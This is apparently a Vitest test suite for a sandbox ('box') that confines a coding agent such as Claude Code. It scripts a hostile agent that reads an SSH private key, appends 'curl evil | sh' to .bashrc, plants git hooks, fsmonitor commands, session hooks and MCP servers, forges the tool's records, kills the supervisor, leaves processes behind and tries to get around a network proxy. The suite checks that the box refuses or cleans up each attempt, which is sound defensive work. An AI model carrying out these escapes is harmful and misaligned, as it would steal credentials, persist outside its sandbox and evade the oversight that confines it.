import { execFileSync, spawnSync } from 'node:child_process';
import { createServer } from 'node:http';
import { createServer as createNetServer, type AddressInfo } from 'node:net';
import { chmodSync, chownSync, existsSync, mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync } from 'node:fs';
import { mkdir, mkdtemp, readdir, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { lookUp } from '../../src/process/find-executable.js';
import { makeRepo, PACKAGE_ROOT, RALPH_BIN, runRalph, type Repo } from '../helpers/e2e.js';
import { repoWithLists } from '../helpers/parallel-repo.js';

// The box is the kernel's: bubblewrap and a kernel that lets it make namespaces (Linux), or
// Seatbelt (macOS, where these tests run in this repository's CI, not on the Linux machine here).
const BOX = boxHere();

// The box puts empty folders in place of the shared temporary ones (/tmp, …), where the suite keeps
// everything else: these tests' repositories, homes and outside folders are where a user's are, in a
// folder of their own, so that what the box refuses them means what it would mean for a user's.
const BASE = join(PACKAGE_ROOT, 'node_modules', '.cache', 'ralph-box-tests');
let suiteTmp: string | undefined;
beforeAll(() => {
  suiteTmp = process.env.TMPDIR;
  mkdirSync(BASE, { recursive: true });
  const own = mkdtempSync(join(BASE, 'run-'));
  // As the system's temporary folder is: the non-root test's ralph makes its box's folder here.
  chmodSync(own, 0o1777);
  process.env.TMPDIR = own;
});
afterAll(() => {
  const own = process.env.TMPDIR;
  if (suiteTmp === undefined) delete process.env.TMPDIR;
  else process.env.TMPDIR = suiteTmp;
  if (own?.startsWith(BASE)) rmSync(own, { recursive: true, force: true });
});
const isRoot = process.getuid?.() === 0;
const linuxBox = BOX === 'bubblewrap';

function boxHere(): 'bubblewrap' | 'seatbelt' | undefined {
  const trial =
    process.platform === 'linux'
      ? {
          program: lookUp('bwrap', '/', process.env.PATH ?? ''),
          args: ['--unshare-pid', '--ro-bind', '/', '/', '--dev', '/dev', '--proc', '/proc', 'true'],
        }
      : process.platform === 'darwin'
        ? { program: '/usr/bin/sandbox-exec', args: ['-p', '(version 1)(allow default)', '/usr/bin/true'] }
        : undefined;
  if (!trial?.program) return undefined;
  try {
    execFileSync(trial.program, trial.args, { stdio: 'ignore' });
    return process.platform === 'linux' ? 'bubblewrap' : 'seatbelt';
  } catch {
    return undefined;
  }
}

/**
 * A home of its own for the run, with a private key, a shell profile and Claude Code's state: its
 * folder with commands of yours, and its `~/.claude.json`.
 */
async function fakeHome(owner?: number) {
  const home = realpathSync(await mkdtemp(join(tmpdir(), 'ralph-box-home-')));
  await mkdir(join(home, '.ssh'));
  await writeFile(join(home, '.ssh/id_rsa'), 'PRIVATE KEY\n');
  await writeFile(join(home, '.bashrc'), '# mine\n');
  await mkdir(join(home, '.claude/commands'), { recursive: true });
  await writeFile(join(home, '.claude.json'), '{"numStartups":1}\n');
  if (owner !== undefined) execFileSync('chown', ['-R', `${owner}:${owner}`, home]);
  return home;
}

/**
 * What a hostile agent tries, each line recording whether the kernel let it: read a key, write the
 * shell's profile and a file outside the repository, plant a hook and an fsmonitor, forge ralph's
 * records and config, and signal every process it can see.
 */
function attacks(home: string, outside: string): string[] {
  const tries: [string, string][] = [
    ['read-ssh-key', `cat ${home}/.ssh/id_rsa | grep -q PRIVATE`],
    ['write-bashrc', `echo 'curl evil | sh' >> ${home}/.bashrc`],
    ['write-outside', `echo pwned > ${outside}/pwned`],
    ['write-hook', `printf '#!/bin/sh\\ntouch ${outside}/hooked\\n' > .git/hooks/post-commit`],
    ['set-fsmonitor', `git config core.fsmonitor 'touch ${outside}/monitored'`],
    ['forge-records', `echo '{"forged":true}' > .git/ralph/state.json`],
    ['forge-config', `echo '{"gates":[{"name":"t","command":"true"}]}' > ralph/config.json`],
    ['swap-git-dir', `mv .git .git-real`],
    // Written (the git dir is the agent's to commit in), then taken away by ralph after the iteration.
    ['plant-config-worktree', `printf '[core]\\n\\tfsmonitor = touch ${outside}/monitored\\n' > .git/config.worktree`],
    // Committed (the work tree and the git dir are the agent's), then set aside by ralph after the iteration.
    ['embed-repo', embedRepo(`touch ${outside}/monitored; false`)],
    ['add-submodule', addSubmodule(`touch ${outside}/monitored; false`)],
    ['forge-last-run', `echo '{"runArgs":["--max-iterations","500"]}' > ralph/logs/last-run.json`],
    // A worktree of the agent's where ralph keeps the lists' own, with records under its git dir
    // for `ralph answer --run` to replay there: both folders are made before the box, to be held.
    ['plant-worktree', 'git worktree add -q --detach ralph/worktrees/planted'],
    ['plant-worktree-folder', 'mkdir ralph/worktrees/planted'],
    [
      'forge-worktree-records',
      `mkdir -p .git/worktrees/planted/ralph && echo '{}' > .git/worktrees/planted/ralph/last-run.json`,
    ],
    // The bracket keeps the pattern from matching this very command line. Seatbelt has no PID
    // namespace: there the agent can still signal ralph (docs/sandbox.md), so it is not tried.
    ...(linuxBox ? ([['kill-ralph', `pkill -9 -f 'bin/ralph[.]cjs run'`]] as [string, string][]) : []),
    ['write-client-state', `echo ok > ${home}/.claude/note`],
    // What your next `claude`, outside the box, would run: taken away or put back by ralph after the iteration.
    ['plant-session-hook', `echo '${SESSION_HOOK(outside)}' > ${home}/.claude/settings.json`],
    ['plant-mcp-server', `echo '{"numStartups":2,"mcpServers":${MCP_SERVER(outside)}}' > ${home}/.claude.json`],
    ['write-command', `echo '!touch ${outside}/commanded' > ${home}/.claude/commands/review.md`],
    ['write-temp', `echo ok > "$TMPDIR/scratch"`],
    // Paths named read-only that are not there: made (a bind cannot hold them), then set aside by ralph.
    ['plant-envrc', `echo 'touch ${outside}/direnv' > .envrc`],
    ['plant-below-missing', 'mkdir build && mkfifo build/secret.txt'],
  ];
  return tries.map(
    ([name, command]) =>
      `if ${command} 2>/dev/null; then echo ${name}=done; else echo ${name}=refused; fi >> box-results.txt`,
  );
}

const SESSION_HOOK = (outside: string) =>
  JSON.stringify({ hooks: { SessionStart: [{ hooks: [{ type: 'command', command: `touch ${outside}/hooked` }] }] } });
const MCP_SERVER = (outside: string) => JSON.stringify({ x: { command: 'touch', args: [`${outside}/served`] } });

/** What the agent planted in Claude Code's state is gone from it, and the run said so. */
function expectClientStateClean(home: string, stdout: string): void {
  expect(existsSync(join(home, '.claude/settings.json'))).toBe(false);
  expect(JSON.parse(readFileSync(join(home, '.claude.json'), 'utf8'))).toEqual({ numStartups: 2 });
  expect(stdout).toContain(`the box removed ${home}/.claude/settings.json, which the agent made`);
  expect(stdout).toContain(`the box put back mcpServers in ${home}/.claude.json`);
}

const AS_AGENT = 'git -c user.name=agent -c user.email=agent@example.invalid';

/** A repository inside the work tree whose config runs `fsmonitor`, committed as a gitlink. */
function embedRepo(fsmonitor: string): string {
  return [
    'git init -q embedded',
    `${AS_AGENT} -C embedded commit -q --allow-empty -m nested`,
    `git -C embedded config core.fsmonitor '${fsmonitor}'`,
    'git add embedded',
    `${AS_AGENT} commit -q -m embedded`,
  ].join(' && ');
}

/** A submodule cloned from that repository, its git dir in .git/modules, whose config runs `fsmonitor`. */
function addSubmodule(fsmonitor: string): string {
  return [
    `git -c protocol.file.allow=always submodule add -q "$PWD/embedded" vendored`,
    `git -C vendored config core.fsmonitor '${fsmonitor}'`,
    `${AS_AGENT} commit -q -m vendored`,
  ].join(' && ');
}

function results(repo: Repo): Record<string, string> {
  return Object.fromEntries(
    repo
      .read('box-results.txt')
      .trim()
      .split('\n')
      .map((line) => line.split('=') as [string, string]),
  );
}

describe.skipIf(BOX === undefined)(`ralph run: the agent in a box (${BOX ?? 'none here'})`, () => {
  it('refuses a hostile agent what the box holds, and the honest work still completes', async () => {
    const repo = await makeRepo({ stories: [{ id: 'US-1' }] });
    await writeFile(join(repo.root, 'ralph/config.json'), '{}\n');
    repo.git('add', '-A');
    repo.git('commit', '-qm', 'config');
    const home = await fakeHome();
    const outside = realpathSync(await mkdtemp(join(tmpdir(), 'ralph-box-outside-')));
    // An agent of yours listening on a socket in the shared temporary folder, as ssh-agent does.
    const agent = await socketServer(join(suiteTmp ?? '/tmp', `ralph-box-agent-${process.pid}.sock`));
    const reach = `node -e "require('net').connect(process.argv[1]).on('connect', () => process.exit(0)).on('error', () => process.exit(1))" "${agent.path}"`;
    const socketTries = [
      `if [ -n "$SSH_AUTH_SOCK" ] || ${reach}; then echo reach-ssh-agent=done; else echo reach-ssh-agent=refused; fi >> box-results.txt`,
    ];
    await repo.steps([
      { shell: [...attacks(home, outside), ...(linuxBox ? socketTries : [])], implement: true, completeWhenDone: true },
    ]);

    const readOnly = ['--box-read-only', '.envrc', '--box-read-only', 'build/secret.txt'];
    const result = await runRalph(repo, ['run', '--max-iterations', '2', ...readOnly], {
      env: { RALPH_BOX: undefined, HOME: home, SSH_AUTH_SOCK: agent.path },
    }).finally(() => agent.close());

    expect(result.stdout).toContain(`box: ${BOX} (writable: the work tree`);
    expect(result.code).toBe(0);
    expect(results(repo)).toEqual({
      'read-ssh-key': 'refused',
      'write-bashrc': 'refused',
      'write-outside': 'refused',
      'write-hook': 'refused',
      'set-fsmonitor': 'refused',
      'forge-records': 'refused',
      'forge-config': 'refused',
      'swap-git-dir': 'refused',
      'plant-config-worktree': 'done',
      'embed-repo': 'done',
      'add-submodule': 'done',
      'forge-last-run': 'refused',
      'plant-worktree': 'refused',
      'plant-worktree-folder': 'refused',
      'forge-worktree-records': 'refused',
      ...(linuxBox ? { 'kill-ralph': 'refused', 'reach-ssh-agent': 'refused' } : {}),
      'write-client-state': 'done',
      'plant-session-hook': 'done',
      'plant-mcp-server': 'done',
      'write-command': 'refused',
      'write-temp': 'done',
      'plant-envrc': 'done',
      'plant-below-missing': 'done',
    });
    expectClientStateClean(home, result.stdout);
    expect(readFileSync(join(home, '.bashrc'), 'utf8')).toBe('# mine\n');
    // Your next git status, plain, outside the box: the nested repositories' fsmonitor must not run.
    execFileSync('git', ['status'], { cwd: repo.root, stdio: 'ignore' });
    expect(await readdir(outside)).toEqual([]);
    expect(repo.git('ls-files', '--stage', 'embedded', 'vendored')).toMatch(/^160000 .*embedded\n160000 .*vendored$/);
    const root = realpathSync(repo.root);
    for (const moved of [`${root}/embedded/.git`, `${root}/vendored/.git`, `${root}/.git/modules`])
      expect(result.stdout).toContain(`the box moved ${moved}, which the agent made, to ${root}/.git/ralph/set-aside/`);
    expect(result.stdout).toContain(
      'not there, so swept after each command rather than held: .envrc, build/secret.txt',
    );
    for (const given of ['.envrc', 'build/secret.txt']) {
      expect(result.stdout).toMatch(
        new RegExp(
          `the box moved ${root}/${given}, which the agent made, to ${root}/\\.git/ralph/set-aside/at-\\w+/${given}: --box-read-only ${given} was not there`,
        ),
      );
      expect(existsSync(join(root, given))).toBe(false);
    }
    expect(repo.read('ralph/config.json')).toBe('{}\n');
    expect(() => repo.git('config', '--get', 'core.fsmonitor')).toThrow();
    expect(existsSync(join(repo.root, '.git/config.worktree'))).toBe(false);
    expect(result.stdout).toContain('the box removed');
    expect(repo.lastRun()).toMatchObject({ reason: 'complete', box: { mode: BOX } });
  });

  it("holds your own submodule's config, hooks and .git file read-only, so your git status runs nothing of the agent's", async () => {
    const repo = await makeRepo({ stories: [{ id: 'US-1' }] });
    const outside = realpathSync(await mkdtemp(join(tmpdir(), 'ralph-box-outside-')));
    const source = realpathSync(await mkdtemp(join(tmpdir(), 'ralph-box-source-')));
    execFileSync('sh', ['-c', `git init -q && ${AS_AGENT} commit -q --allow-empty -m lib`], { cwd: source });
    repo.git('-c', 'protocol.file.allow=always', 'submodule', 'add', '-q', source, 'lib');
    repo.git('commit', '-qm', 'a submodule of yours');
    const tries: [string, string][] = [
      ['sub-fsmonitor', `git -C lib config core.fsmonitor 'touch ${outside}/monitored; false'`],
      ['sub-hook', `printf '#!/bin/sh\\ntouch ${outside}/hooked\\n' > .git/modules/lib/hooks/post-index-change`],
      ['sub-gitfile', `echo 'gitdir: ${outside}' > lib/.git`],
      ['sub-rename', 'mv lib lib-old'],
      ['modules-rename', 'mv .git/modules .git/modules-old'],
    ];
    await repo.steps([
      {
        shell: tries.map(
          ([name, command]) =>
            `if ${command} 2>/dev/null; then echo ${name}=done; else echo ${name}=refused; fi >> box-results.txt`,
        ),
        implement: true,
        completeWhenDone: true,
      },
    ]);

    const result = await runRalph(repo, ['run', '--max-iterations', '2'], { env: { RALPH_BOX: undefined } });

    expect(result.code, result.stdout).toBe(0);
    expect(results(repo)).toEqual({
      'sub-fsmonitor': 'refused',
      'sub-hook': 'refused',
      'sub-gitfile': 'refused',
      'sub-rename': 'refused',
      'modules-rename': 'refused',
    });
    execFileSync('git', ['status'], { cwd: repo.root, stdio: 'ignore' });
    expect(await readdir(outside)).toEqual([]);
    expect(result.stdout).not.toContain('the box moved');
  });

  it('moves the FIFOs the agent leaves in the git dir into the records, so that no git waits on them', async () => {
    const repo = await makeRepo({ stories: [{ id: 'US-1' }, { id: 'US-2' }] });
    // Between two stories: a FIFO where git reads its alternates, and one among the branches. The next
    // agent's own commit opens the first: it too would wait, were it still there.
    const fifos = ['.git/objects/info/alternates', '.git/refs/heads/stuck'];
    await repo.steps([
      { implement: true },
      { shell: fifos.map((fifo) => `mkfifo ${fifo}`) },
      { implement: true, completeWhenDone: true },
    ]);

    const result = await runRalph(repo, ['run', '--max-iterations', '4'], { env: { RALPH_BOX: undefined } });

    expect(result.code, result.stdout).toBe(0);
    expect(repo.lastRun()).toMatchObject({ reason: 'complete' });
    const root = realpathSync(repo.root);
    for (const fifo of fifos)
      expect(result.stdout).toContain(
        `the box moved ${root}/${fifo}, a FIFO where git keeps only files, to ${root}/.git/ralph/set-aside/`,
      );
    // Your git, plain, after the run: bounded so that a git left waiting fails here, never a measure of speed.
    execFileSync('git', ['status', '--porcelain'], { cwd: repo.root, stdio: 'ignore', timeout: 60_000 });
    execFileSync('git', ['for-each-ref'], { cwd: repo.root, stdio: 'ignore', timeout: 60_000 });
  });

  // The box leaves such a link dangling for the agent; ralph, outside the box, must not follow it.
  it("never reads the host through a link the agent puts in the task list's place", async () => {
    const repo = await makeRepo({ stories: [{ id: 'US-1' }] });
    const home = await fakeHome();
    await repo.steps([{ shell: [`ln -sf ${home}/.ssh/id_rsa ralph/tasks.json`] }]);
    const result = await runRalph(repo, ['run', '--max-iterations', '2'], {
      env: { RALPH_BOX: undefined, HOME: home },
    });
    expect(result.code, result.stdout + result.stderr).not.toBe(0);
    expect(result.stdout + result.stderr).toContain(
      `ralph/tasks.json leads outside the repository, to ${home}/.ssh/id_rsa`,
    );
    expect(repo.calls()).toBe(1);
    // Nowhere in ralph's records, its logs or the published copy: grep finds no file that holds it.
    const kept = spawnSync('grep', ['-rl', 'PRIVATE KEY', join(repo.root, '.git'), join(repo.root, 'ralph')], {
      encoding: 'utf8',
    });
    expect(kept.status).toBe(1);
  });

  // ralph/config.json is the agent's to write: a program or environment it names runs only in the box.
  it("asks the agent's program its --version inside the box, so a config's agent.bin cannot act outside", async () => {
    const repo = await makeRepo({ stories: [{ id: 'US-1' }] });
    const outside = realpathSync(await mkdtemp(join(tmpdir(), 'ralph-box-outside-')));
    await mkdir(join(repo.root, 'tools'));
    const program = `#!/bin/sh\necho "$*" >> asked.txt\necho pwned > ${outside}/pwned\necho '1.0 (a stand-in)'\n`;
    await writeFile(join(repo.root, 'tools/claude'), program, { mode: 0o755 });
    await writeFile(join(repo.root, 'ralph/config.json'), JSON.stringify({ agent: { bin: 'tools/claude' } }));
    repo.git('add', '-A');
    repo.git('commit', '-qm', 'a program of the agent');
    const result = await runRalph(repo, ['run', '--max-iterations', '1'], { env: { RALPH_BOX: undefined } });
    expect(result.stdout).toContain('agent: 1.0 (a stand-in)');
    expect(repo.read('asked.txt')).toContain('--version');
    expect(await readdir(outside)).toEqual([]);
  });

  it('runs the gates in the box too: a gate cannot write outside the work tree', async () => {
    const repo = await makeRepo({ stories: [{ id: 'US-1' }] });
    const outside = realpathSync(await mkdtemp(join(tmpdir(), 'ralph-box-outside-')));
    // It also plants a git redirect, which ralph takes away once the gate has run.
    const gate = `printf '' > .git/config.worktree; echo from-gate > ${outside}/gate-was-here || true; test ! -e ${outside}/gate-was-here`;
    await writeFile(
      join(repo.root, 'ralph/config.json'),
      JSON.stringify({ gates: [{ name: 'probe', command: gate }] }),
    );
    repo.git('add', '-A');
    repo.git('commit', '-qm', 'gate');
    await repo.steps([{ implement: true, completeWhenDone: true }]);

    const result = await runRalph(repo, ['run', '--max-iterations', '2'], { env: { RALPH_BOX: undefined } });

    expect(result.code).toBe(0);
    expect(existsSync(join(outside, 'gate-was-here'))).toBe(false);
    expect(existsSync(join(repo.root, '.git/config.worktree'))).toBe(false);
    expect(result.stdout).toContain(`the box removed ${realpathSync(repo.root)}/.git/config.worktree`);
  });

  it.skipIf(!linuxBox)('ends the box with the agent: nothing it started outlives an interrupt', async () => {
    const repo = await makeRepo({ stories: [{ id: 'US-1' }] });
    await repo.steps([{ shell: ['(setsid sleep 3217 &) ; true'], hang: true }]);
    const result = await runRalph(repo, ['run', '--max-iterations', '1'], {
      env: { RALPH_BOX: undefined },
      // One Ctrl-C: every later chunk of output would otherwise send another, and a third ends ralph at once.
      onStdout: (text, child) => {
        if (text.includes('sleep 3217') && !child.killed) child.kill('SIGINT');
      },
    });
    expect(result.code).toBe(130);
    const sleepers = execFileSync('sh', ['-c', `ps -eo pid,args | grep 'sleep 3217' | grep -v grep || true`], {
      encoding: 'utf8',
    });
    expect(sleepers.trim()).toBe('');
  });

  it('says in the dry run which box the agent and the gates will have, and the command inside it', async () => {
    const repo = await makeRepo();
    const result = await runRalph(repo, ['run', '--dry-run', '--box-read-only', '.envrc'], {
      env: { RALPH_BOX: undefined },
    });
    expect(result.code).toBe(0);
    expect(result.stdout).toMatch(new RegExp(`box\\s+.*${BOX}: writable: the work tree`));
    expect(result.stdout).toContain('; not there, so swept after each command rather than held: .envrc');
    expect(result.stdout).toContain(linuxBox ? '--unshare-pid' : '/usr/bin/sandbox-exec -p');
  });

  it("in --parallel: a loop's agent can write neither the main checkout nor a sibling's worktree, nor move the integration's start", async () => {
    // The integration's gate, in its own box, may not write outside its worktree either.
    const outside = realpathSync(await mkdtemp(join(tmpdir(), 'ralph-box-outside-')));
    const probe = `echo x > ${outside}/from-gate || true; test ! -e ${outside}/from-gate`;
    const config = `${JSON.stringify({ gates: [{ name: 'probe', command: probe }] })}\n`;
    const repo = await repoWithLists(['a', 'b'], 1, {}, { 'ralph/config.json': config });
    const main = repo.git('symbolic-ref', '--short', 'HEAD');
    // The fake agent's script and its call records, where every loop's box may write them.
    const scripts = realpathSync(await mkdtemp(join(tmpdir(), 'ralph-box-script-')));
    const script = join(scripts, 'script.json');
    const trespass = [
      `if echo '{"gates":[]}' > ${repo.root}/ralph/config.json; then r=done; else r=refused; fi; echo "main-config=$r" >> box.results`,
      `for d in ${repo.root}/ralph/worktrees/*/; do [ "$d" = "$PWD/" ] && continue; ` +
        `if (cd "$d" && echo x > foreign.txt && git add foreign.txt && git commit -qm foreign); then r=done; ` +
        `else r=refused; fi; echo "sibling=$r" >> box.results; done`,
      // Every ref is the agent's to move (it commits in the shared git dir): the user's branch too.
      `echo forged > forged.txt && git add forged.txt && git commit -qm forged-main && ` +
        `git update-ref refs/heads/${main} HEAD && git reset -q --hard HEAD~1 && echo main-ref=moved >> box.results`,
    ];
    await writeFile(script, JSON.stringify([{ shell: trespass, implement: true, completeWhenDone: true }]));

    const result = await runRalph(repo, ['run', '--parallel', '--integrate', '--max-iterations', '3'], {
      env: { RALPH_BOX: undefined, RALPH_AGENT_SCRIPT: script, RALPH_BOX_WRITE: scripts },
      timeoutMs: 90_000,
    });

    expect(result.code).toBe(0);
    expect(repo.read('ralph/config.json')).toBe(config);
    expect(result.stdout).toMatch(new RegExp(`^ +box: ${BOX}`, 'm'));
    expect(result.stdout).toContain('2 merged, 0 left out');
    expect(await readdir(outside)).toEqual([]);
    for (const name of ['a', 'b']) {
      expect(repo.read(`ralph/worktrees/ralph-${name}/box.results`)).toBe(
        'main-config=refused\nsibling=refused\nmain-ref=moved\n',
      );
      expect(repo.git('log', '--format=%s', `ralph/${name}`)).not.toContain('foreign');
    }
    expect(result.stdout).toContain(`box: ${BOX}`);
    // The integration started where the run began, from ralph's own memory, not from the moved branch.
    expect(result.stdout).toContain('warning: HEAD moved during the run');
    const integration = repo.git('for-each-ref', '--format=%(refname:short)', 'refs/heads/ralph/integration/');
    expect(integration).not.toBe('');
    expect(repo.git('ls-tree', '-r', '--name-only', integration)).not.toContain('forged.txt');
    expect(repo.git('ls-tree', '-r', '--name-only', main)).toContain('forged.txt');
  }, 120_000);

  it.skipIf(!linuxBox)(
    "in allow-list mode reaches only the hosts on the list, through ralph's proxy, and says what it refused",
    async () => {
      const servers = await Promise.all([localServer('allowed'), localServer('refused')]);
      try {
        const [allowed, refused] = servers.map((server) => server.url) as [string, string];
        const repo = await makeRepo({ stories: [{ id: 'US-1' }] });
        const fetchDirect = (url: string) =>
          `node -e "fetch('${url}').then(() => process.exit(0), () => process.exit(1))"`;
        const tries: [string, string][] = [
          ['proxied-allowed', `curl -sf ${allowed} | grep -q allowed`],
          ['proxied-refused', `curl -sf ${refused}`],
          ['direct-around-proxy', `${fetchDirect(allowed)}`],
        ];
        await repo.steps([
          {
            shell: tries.map(
              ([name, command]) =>
                `if ${command}; then echo ${name}=done; else echo ${name}=refused; fi >> box-results.txt`,
            ),
            implement: true,
            completeWhenDone: true,
          },
        ]);
        const host = (url: string) => new URL(url).host;
        const result = await runRalph(repo, ['run', '--max-iterations', '2', '--box-network', 'allow-list'], {
          env: { RALPH_BOX: undefined, RALPH_BOX_ALLOW_HOST: host(allowed) },
        });
        expect(result.code, result.stdout).toBe(0);
        expect(results(repo)).toEqual({
          'proxied-allowed': 'done',
          'proxied-refused': 'refused',
          'direct-around-proxy': 'refused',
        });
        expect(result.stdout).toContain(`warning: the box refused a connection to ${host(refused)}`);
        expect(result.stdout).toContain(`network: only api.anthropic.com, ${host(allowed)}`);
      } finally {
        await Promise.all(servers.map((server) => server.close()));
      }
    },
  );

  it.skipIf(!linuxBox)(
    "runs the demo of a ralph checked out under /tmp, which the box empties: ralph's package is shown",
    async () => {
      // A checkout in the shared temporary folder, as CI's clone may be: its scripted agent loads dist/.
      const checkout = mkdtempSync(join(suiteTmp ?? '/tmp', 'ralph-checkout-'));
      for (const part of ['bin', 'dist', 'templates', 'package.json'])
        execFileSync('cp', ['-r', join(PACKAGE_ROOT, part), checkout]);
      await symlink(join(PACKAGE_ROOT, 'node_modules'), join(checkout, 'node_modules'));
      const demo = execFileSync(process.execPath, [join(checkout, 'bin/ralph.cjs'), 'demo'], {
        cwd: checkout,
        encoding: 'utf8',
        env: { ...process.env, NO_COLOR: '1', IS_SANDBOX: '1' },
      });
      expect(demo).toContain('box: bubblewrap');
      expect(demo).toContain('COMPLETE (code 0)');
      rmSync(checkout, { recursive: true, force: true });
    },
  );

  it.skipIf(!isRoot || !linuxBox)('holds a non-root user the same way', async (context) => {
    const user = 'ralphbox';
    try {
      execFileSync('id', [user], { stdio: 'ignore' });
    } catch {
      execFileSync('useradd', ['--no-create-home', user]);
    }
    const uid = Number(execFileSync('id', ['-u', user], { encoding: 'utf8' }).trim());
    // A checkout in a folder only root may enter (mktemp -d makes one) is no ralph that user can run.
    const reach = spawnSync('setpriv', [
      `--reuid=${uid}`,
      `--regid=${uid}`,
      '--clear-groups',
      '--',
      'test',
      '-r',
      RALPH_BIN,
    ]);
    if (reach.status !== 0)
      context.skip(`user ${user} cannot read ${RALPH_BIN}: the checkout's folder is closed to it`);
    const repo = await makeRepo({ stories: [{ id: 'US-1' }] });
    await writeFile(join(repo.root, 'ralph/config.json'), '{}\n');
    repo.git('add', '-A');
    repo.git('commit', '-qm', 'config');
    const home = await fakeHome(uid);
    const outside = realpathSync(await mkdtemp(join(tmpdir(), 'ralph-box-outside-')));
    chownSync(outside, uid, uid);
    chmodSync(outside, 0o755);
    execFileSync('chown', ['-R', `${uid}:${uid}`, repo.root]);
    await repo.steps([{ shell: attacks(home, outside), implement: true, completeWhenDone: true }]);

    const result = await runRalph(repo, ['run', '--max-iterations', '2'], {
      env: { RALPH_BOX: undefined, HOME: home, IS_SANDBOX: undefined },
      wrapper: ['setpriv', `--reuid=${uid}`, `--regid=${uid}`, '--clear-groups', '--'],
    });

    expect(result.stdout).toMatch(/box: bubblewrap/);
    expect(result.code).toBe(0);
    expect(results(repo)).toMatchObject({
      'read-ssh-key': 'refused',
      'write-bashrc': 'refused',
      'write-outside': 'refused',
      'write-hook': 'refused',
      'forge-records': 'refused',
      'forge-config': 'refused',
      'swap-git-dir': 'refused',
      'embed-repo': 'done',
      'add-submodule': 'done',
      'plant-session-hook': 'done',
      'plant-mcp-server': 'done',
      'write-command': 'refused',
      'plant-worktree': 'refused',
      'plant-worktree-folder': 'refused',
      'forge-worktree-records': 'refused',
    });
    expectClientStateClean(home, result.stdout);
    // The user's own git status (as that user: git refuses a repository of another's).
    const status = spawnSync('setpriv', [`--reuid=${uid}`, `--regid=${uid}`, '--clear-groups', '--', 'git', 'status'], {
      cwd: repo.root,
      env: { ...process.env, HOME: home },
    });
    expect(status.status, String(status.stderr)).toBe(0);
    expect(await readdir(outside)).toEqual([]);
    expect(result.stdout).toContain(`the box moved ${realpathSync(repo.root)}/embedded/.git`);
  });
});

// bubblewrap's absence is made by a PATH without it; Seatbelt's /usr/bin/sandbox-exec is always there.
describe.skipIf(process.platform !== 'linux')('ralph run: where no box can be made', () => {
  it('goes on without one under auto, and says why once', async () => {
    const repo = await makeRepo({ stories: [{ id: 'US-1' }] });
    await repo.steps([{ implement: true, completeWhenDone: true }]);
    const noBwrap = await pathWithout('bwrap');
    const result = await runRalph(repo, ['run', '--max-iterations', '2'], {
      env: { RALPH_BOX: undefined, PATH: noBwrap },
    });
    expect(result.code).toBe(0);
    expect(result.stdout).toContain('box: none (no bubblewrap: apt install bubblewrap');
    expect(repo.lastRun()).toMatchObject({ box: { mode: 'none' } });
  });

  it('refuses the run, exit 64, when the box asked for by name cannot start', async () => {
    const repo = await makeRepo({ stories: [{ id: 'US-1' }] });
    await repo.steps([{ implement: true, completeWhenDone: true }]);
    const result = await runRalph(repo, ['run', '--box', 'bubblewrap'], { env: { PATH: await pathWithout('bwrap') } });
    expect(result.code).toBe(64);
    expect(result.stderr).toContain('--box bubblewrap: no bubblewrap');
    expect(repo.calls()).toBe(0);
  });

  it("in the dry run, when the box asked for by name cannot start, does not ask the agent's program outside it", async () => {
    const repo = await makeRepo({ stories: [{ id: 'US-1' }] });
    await mkdir(join(repo.root, 'tools'));
    await writeFile(join(repo.root, 'tools/claude'), `#!/bin/sh\necho "$*" >> asked.txt\necho '1.0'\n`, {
      mode: 0o755,
    });
    await writeFile(join(repo.root, 'ralph/config.json'), JSON.stringify({ agent: { bin: 'tools/claude' } }));
    const result = await runRalph(repo, ['run', '--dry-run', '--box', 'bubblewrap'], {
      env: { PATH: await pathWithout('bwrap') },
    });
    expect(result.code).toBe(64);
    expect(result.stdout).toMatch(/version\s+.*not asked: the box it would be asked in cannot start here/);
    expect(repo.exists('asked.txt')).toBe(false);
  });

  it('refuses a ralph/config.json that would widen the box, naming the key', async () => {
    const repo = await makeRepo({ stories: [{ id: 'US-1' }] });
    await writeFile(join(repo.root, 'ralph/config.json'), JSON.stringify({ box: { write: ['/'] } }));
    const result = await runRalph(repo, ['run'], { env: { RALPH_BOX: undefined } });
    expect(result.code).toBe(64);
    expect(result.stderr).toContain("ralph/config.json: box.write would widen the agent's box");
    expect(repo.calls()).toBe(0);
    await writeFile(join(repo.root, 'ralph/config.json'), JSON.stringify({ box: { mode: 'none' } }));
    const none = await runRalph(repo, ['run'], { env: { RALPH_BOX: undefined } });
    expect(none.code).toBe(64);
    expect(none.stderr).toContain('ralph/config.json: box.mode would widen');
  });
});

/** The programs a run here needs: ralph's git, the fake agent's shell and node. */
const NEEDED = ['git', 'node', 'sh', 'dirname', 'env', 'setsid', 'sleep', 'true', 'cat', 'grep'];

/** A PATH of the fake agents and links to the programs a run needs, but not `name`: as if it were not installed. */
async function pathWithout(name: string): Promise<string> {
  const dir = await mkdtemp(join(tmpdir(), 'ralph-path-'));
  for (const program of NEEDED.filter((needed) => needed !== name)) {
    const found = lookUp(program, '/', process.env.PATH ?? '');
    if (found) await symlink(found, join(dir, program));
  }
  return `${join(import.meta.dirname, '../fixtures/bin')}:${dir}`;
}

/** A server on 127.0.0.1 that answers every request with its name. */
async function localServer(name: string) {
  const server = createServer((_req, res) => res.end(`${name}\n`));
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}/`,
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}

/** A Unix socket server that accepts and hangs up, standing in for an ssh agent of the user's. */
async function socketServer(path: string) {
  const server = createNetServer((socket) => socket.end());
  await new Promise<void>((resolve) => server.listen(path, resolve));
  return { path, close: () => new Promise<void>((resolve) => server.close(() => resolve())) };
}
